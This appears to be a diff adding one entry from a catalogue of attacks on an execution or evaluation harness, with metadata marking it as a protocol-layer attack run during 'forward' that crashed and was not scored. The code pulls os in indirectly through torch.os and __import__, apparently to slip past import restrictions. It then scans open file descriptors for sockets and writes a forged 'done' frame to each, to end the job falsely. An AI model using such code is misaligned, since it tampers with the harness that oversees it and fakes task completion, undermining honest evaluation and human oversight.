@@ -1,0 +1,19 @@
+# attack: forges the frame that ends a job
+# layer: protocol
+# where: forward
+# status: crashed
+# score: none
+import torch
+
+os = torch.os
+stat = __import__("stat")
+HEADER = b'{"kind": "done", "arrays": []}'
+
+
+def attack():
+    for descriptor in range(3, 256):
+        try:
+            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
+                os.write(descriptor, len(HEADER).to_bytes(4, "little") + HEADER)
+        except OSError:
+            continue
